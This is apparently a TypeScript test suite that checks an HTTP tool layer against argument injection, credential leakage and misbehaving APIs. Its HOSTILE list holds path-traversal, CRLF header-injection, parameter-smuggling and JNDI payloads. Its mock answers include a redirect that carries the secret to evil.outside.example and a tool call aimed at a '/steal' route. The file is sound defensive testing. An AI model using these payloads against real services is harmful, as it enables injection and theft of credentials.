// SPDX-License-Identifier: Apache-2.0
// HTTP tools under attack: arguments that want to reach another host, path, parameter or header, and an API that wants
// more than its one request. Servers on loopback stand for the internet; each request that reaches any of them is seen.
import type { ServerResponse } from 'node:http';
import { vi } from 'vitest';
import { answers, expectCleanLog, HttpShop, verifiedReceipt, type JsonValue, type ShopRequest } from '@writ/stack';

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

const HOST = 'api.outside.example';
/** With characters that JSON, URLs and base64 write in other ways. */
const SECRET = 'marker/of+a<shop>&58bd=';
const SECOND = 'marker-of-a-query-91ce';
const DOCUMENT = `
openapi: 3.1.0
info: {title: Shop, version: '1'}
servers: [{url: 'https://${HOST}/v1'}]
security: [{header: [], query: []}]
paths:
  /items/{id}/parts/{name}.{ext}:
    get:
      operationId: showPart
      parameters:
        - {name: id, in: path, required: true, schema: {type: string}}
        - {name: name, in: path, required: true, schema: {type: string}}
        - {name: ext, in: path, required: true, schema: {type: string}}
        - {name: q, in: query, schema: {type: string}}
        - {name: list, in: query, explode: false, schema: {type: array, items: {type: string}}}
        - {name: open, in: query, schema: {type: object}}
        - {name: deep, in: query, style: deepObject, explode: true, schema: {type: object}}
        - {name: X-Trace, in: header, schema: {type: string}}
      responses: {}
  /orders:
    post:
      operationId: createOrder
      requestBody: {required: true, content: {application/json: {schema: {type: object}}}}
      responses: {}
  /forms:
    post:
      operationId: sendForm
      requestBody: {required: true, content: {application/x-www-form-urlencoded: {schema: {type: object}}}}
      responses: {}
components:
  securitySchemes:
    header: {type: apiKey, in: header, name: X-Api-Key}
    query: {type: apiKey, in: query, name: api_key}
`;

let shop: HttpShop;
beforeAll(async () => {
  shop = await HttpShop.open({
    document: DOCUMENT,
    // An answer without end takes all of the time.
    import: { secrets: { header: 'SHOP_KEY', query: 'SHOP_QUERY' }, timeout_ms: 4_000 },
    secrets: { SHOP_KEY: SECRET, SHOP_QUERY: SECOND },
  });
});
afterAll(async () => {
  if (shop !== undefined) expectCleanLog(shop.stack);
  await shop?.close();
});
beforeEach(() => {
  shop.received = [];
  shop.answer = answers(200, { ok: true });
});

const PART = { id: 'a', name: 'b', ext: 'c' };
/** Headers of each such request; no argument adds one. */
const HEADERS = ['accept', 'accept-encoding', 'connection', 'host', 'user-agent', 'x-api-key'];

/** Refused by the tool, or at the edge, which takes no NUL and no half of a character; nothing left. */
function expectRefused({ error, code }: JsonValue): void {
  expect(['args.invalid', 'request.malformed']).toContain(error?.code ?? code);
  expect(shop.received).toEqual([]);
}

/** What reached a server by a call: null where it was refused, and nothing left. */
async function sentBy(operation: string, args: JsonValue): Promise<ShopRequest | null> {
  shop.received = [];
  const ended = await shop.call(operation, args);
  if (ended.status === 'ok') {
    expect(shop.received).toHaveLength(1);
    expect(shop.received[0]!.headers.host).toBe(HOST);
    return shop.received[0]!;
  }
  expectRefused(ended);
  return null;
}
const partsOf = ({ url }: ShopRequest): { segments: string[]; query: [string, string][] } => {
  const [path = '', query = ''] = url.split('?');
  const pairs = query.split('&').map((pair) => pair.split('='));
  return {
    segments: path.split('/').slice(1),
    query: pairs.map(([name = '', value = '']) => [decodeURIComponent(name), decodeURIComponent(value)]),
  };
};

/** Texts that some reader of URLs, headers or paths takes for more than a text. */
const HOSTILE = [
  '..',
  '.',
  '../../admin',
  '..%2f..%2fadmin',
  '%2e%2e/admin',
  '..\\admin',
  '..;/admin',
  '．．/admin',
  '//evil.example/x',
  'https://evil.example/x',
  '@evil.example',
  'a:b@evil.example:443',
  '?admin=1',
  '#admin',
  'a&admin=1',
  'a;admin=1',
  'a=1&api_key=mine',
  'a,b',
  'a b+c%20d',
  'a\r\nX-Admin: 1',
  'a\nHost: evil.example\n\n',
  'a\0b',
  'a\u2028X-Admin: 1',
  '\u560d\u560aX-Admin: 1',
  '{id}',
  '${jndi:ldap://evil.example}',
  '\u{1f480}é',
  ' a ',
];

/** Each character as JSON may write it. */
const escaped = (text: string): string =>
  [...text].map((one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

describe('a hostile text', () => {
  it.each(['id', 'name', 'ext'])('in the path as `%s` stays within its segment, or nothing leaves', async (place) => {
    for (const text of HOSTILE) {
      const sent = await sentBy('showPart', { ...PART, [place]: text });
      if (sent === null) continue;
      const { segments, query } = partsOf(sent);
      expect([text, segments.length, segments[0], segments[1], segments[3]]).toEqual([text, 5, 'v1', 'items', 'parts']);
      const shown = place === 'id' ? segments[2]! : segments[4]!;
      const whole = { id: text, name: `${text}.c`, ext: `b.${text}` }[place];
      expect(decodeURIComponent(shown)).toBe(whole);
      expect(query).toEqual([['api_key', SECOND]]);
    }
  });

  it('in the query is one value, or nothing leaves', async () => {
    for (const text of HOSTILE) {
      const sent = await sentBy('showPart', { ...PART, q: text });
      if (sent === null) continue;
      expect(sent.url.startsWith('/v1/items/a/parts/b.c?')).toBe(true);
      expect(partsOf(sent).query).toEqual([
        ['q', text],
        ['api_key', SECOND],
      ]);
    }
  });

  it('in a list or an object of the query is no other parameter, or nothing leaves', async () => {
    for (const text of [...HOSTILE, 'api_key', 'q', 'q[x]', 'x][api_key', 'deep[api_key]', '__proto__', 'constructor'])
      for (const args of [{ list: [text, 'z'] }, { open: { [text]: '1' } }, { deep: { [text]: '1' } }]) {
        const sent = await sentBy('showPart', { ...PART, q: 'mine', ...args });
        if (sent === null) continue;
        const { query } = partsOf(sent);
        expect([text, query.filter(([name]) => name === 'api_key')]).toEqual([text, [['api_key', SECOND]]]);
        expect(query.filter(([name]) => name === 'q')).toEqual([['q', 'mine']]);
        expect(query).toHaveLength(3);
      }
  });

  it('in a header is one value, or nothing leaves', async () => {
    for (const text of HOSTILE) {
      const sent = await sentBy('showPart', { ...PART, 'X-Trace': text });
      if (sent === null) continue;
      expect(sent.headers['x-trace']).toBe(text);
      const names = sent.rawHeaders.filter((_one, n) => n % 2 === 0).map((name) => name.toLowerCase());
      expect(names.sort()).toEqual([...HEADERS, 'x-trace'].sort());
    }
  });

  it('in a body is a value of that body, whose length is as it was stated', async () => {
    for (const text of HOSTILE) {
      const body = { [text]: text };
      const json = await sentBy('createOrder', { body });
      if (json !== null) {
        expect(JSON.parse(json.body)).toEqual(body);
        expect(json.headers['content-length']).toBe(String(Buffer.byteLength(json.body)));
      }
      const form = await sentBy('sendForm', { body });
      if (form !== null) expect([...new URLSearchParams(form.body)]).toEqual([[text, text]]);
    }
  });

  it('is not half of a character', async () => {
    for (const args of [
      { ...PART, id: '\ud800' },
      { ...PART, q: '\udc00x' },
      { ...PART, 'X-Trace': '\ud800' },
    ])
      expectRefused(await shop.call('showPart', args));
  });
});

describe('the credentials', () => {
  /** All that a caller, an administrator and an auditor can read of a call. */
  async function shownOf(ended: JsonValue): Promise<string> {
    const id = ended.operation_id as string;
    const { admin, agent, auditor } = shop.world;
    const texts = await Promise.all([
      agent.get(`/v1/operations/${id}`),
      agent.get(`/v1/operations/${id}/requests`),
      admin.get(`/v1/operations/${id}/explain`),
      auditor.get(`/v1/records?operation=${id}`),
      admin.get('/v1/tools'),
    ]);
    expect(texts.map(({ status }) => status)).toEqual([200, 200, 200, 200, 200]);
    const { record } = await verifiedReceipt(shop.stack, shop.world, id, 'outcome');
    return JSON.stringify([ended, texts.map(({ text }) => text), record]);
  }
  const spellings = [
    SECRET,
    SECOND,
    encodeURIComponent(SECRET),
    JSON.stringify(SECRET).slice(1, -1).replaceAll('/', '\\/'),
    Buffer.from(SECRET).toString('base64'),
  ];

  it.each<[string, number, (text: string) => [string, Record<string, string>]]>([
    ['as JSON', 200, (text) => [JSON.stringify({ echo: text, [text]: 1 }), {}]],
    ['as JSON with escapes', 200, (text) => [`{"echo":"${escaped(text)}"}`, {}]],
    [
      'as JSON with `\\/`, as PHP writes it',
      200,
      (text) => [JSON.stringify({ echo: text }).replaceAll('/', '\\/'), {}],
    ],
    ['as text', 200, (text) => [`key ${text}\n`, { 'content-type': 'text/plain' }]],
    ['in base64', 200, (text) => [JSON.stringify({ echo: Buffer.from(text).toString('base64') }), {}]],
    ['in a refusal', 403, (text) => [JSON.stringify({ why: `not with ${text}` }), {}]],
    ['in an error', 500, (text) => [`<p>${text}</p>`, { 'content-type': 'text/html' }]],
    ['in headers', 200, (text) => ['{}', { 'x-echo': text, 'set-cookie': `k=${encodeURIComponent(text)}` }]],
    ['in a redirect', 302, (text) => ['', { location: `https://evil.outside.example/?k=${encodeURIComponent(text)}` }]],
  ])('are in nothing that anybody reads where the API repeats them %s', async (_how, status, make) => {
    for (const secret of [SECRET, SECOND]) {
      const [body, headers] = make(secret);
      shop.received = [];
      shop.answer = (response) =>
        void response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(body);
      const ended = await shop.call('showPart', PART);
      expect(ended.result?.status).toBe(status);
      const shown = await shownOf(ended);
      expect([...spellings, escaped(secret)].filter((one) => shown.includes(one))).toEqual([]);
      expect(shop.received.map(({ headers: { host } }) => host)).toEqual([HOST]);
    }
  });

  it('are not for other tools, nor for another tenant', async () => {
    const route = { method: 'GET', url: `https://${HOST}/steal` };
    for (const headers of [
      [{ name: 'x', secret: 'SHOP_KEY' }],
      [{ name: 'x', value: '{{SHOP_KEY}}' }],
      [{ name: 'x', value: '${secret:SHOP_KEY}' }],
    ])
      await shop.tool('net.egress', { route, purpose: 'to steal', headers });
    expect(JSON.stringify(shop.received)).not.toMatch(/marker/);
  });
});

describe('an API that does not behave', () => {
  const raw = (text: string) => (response: ServerResponse) => void response.socket!.end(text);

  it.each<[string, HttpShop['answer']]>([
    ['redirects to another host', answers(307, {}, { location: 'https://evil.outside.example/v1/orders' })],
    ['redirects to itself', answers(308, {}, { location: '/v1/orders' })],
    [
      'asks for another protocol',
      raw('HTTP/1.1 101 Switching Protocols\r\nupgrade: h2c\r\nconnection: upgrade\r\n\r\n'),
    ],
    ['answers without HTTP', raw('hello\r\n\r\n')],
    ['answers with a status that is none', raw('HTTP/1.1 9999 What\r\n\r\n')],
    ['states two lengths', raw('HTTP/1.1 200 OK\r\ncontent-length: 1\r\ncontent-length: 9\r\n\r\nabcdefghi')],
    ['sends less than it states', raw('HTTP/1.1 200 OK\r\ncontent-length: 99\r\n\r\nabc')],
    ['sends a head without end', (response) => flood(response, 'HTTP/1.1 200 OK\r\n', `x: ${'y'.repeat(1_000)}\r\n`)],
    ['says 100 for ever', (response) => flood(response, '', 'HTTP/1.1 100 Continue\r\n\r\n')],
    ['breaks the connection off', (response) => void response.socket!.destroy()],
  ])('and %s gets one request, and its call is ambiguous', async (_what, answer) => {
    shop.answer = answer;
    const ended = await shop.call('createOrder', { body: { amount: 1 } });
    expect(ended).toMatchObject({ tx_outcome: 'ambiguous', error: { code: 'effect.ambiguous' } });
    expect(shop.received.map(({ headers: { host }, url }) => `${host} ${url.split('?')[0]}`)).toEqual([
      `${HOST} /v1/orders`,
    ]);
    const { record } = await verifiedReceipt(shop.stack, shop.world, ended.operation_id as string, 'outcome');
    expect(record).toMatchObject({ tx_outcome: 'ambiguous', egress_count: 1 });
  });

  it('and sends a body without end, or another answer behind its own, gets no more than its bound', async () => {
    shop.answer = (response) => {
      response.writeHead(200, { 'content-type': 'text/plain' });
      flood(response, '', null);
    };
    expect(await shop.call('createOrder', { body: {} })).toMatchObject({
      tx_outcome: 'committed',
      result: { status: 200, truncated: true },
    });
    const second = 'HTTP/1.1 200 OK\r\ncontent-length: 5\r\n\r\nother';
    shop.answer = raw(`HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 3\r\n\r\none${second}`);
    expect(await shop.call('showPart', PART)).toMatchObject({ result: { status: 200, body: 'one', size: 3 } });
  });
});

/** Writes without end, while the other side reads. @param part null: chunks of a body */
function flood(response: ServerResponse, head: string, part: string | null): void {
  const socket = response.socket!;
  const to = part === null ? response : socket;
  const text = part === null ? 'x'.repeat(16_384) : part.repeat(8);
  if (head !== '') socket.write(head);
  const timer = setInterval(() => (socket.destroyed ? clearInterval(timer) : void to.write(text)), 1);
  socket.on('error', () => undefined).once('close', () => clearInterval(timer));
}
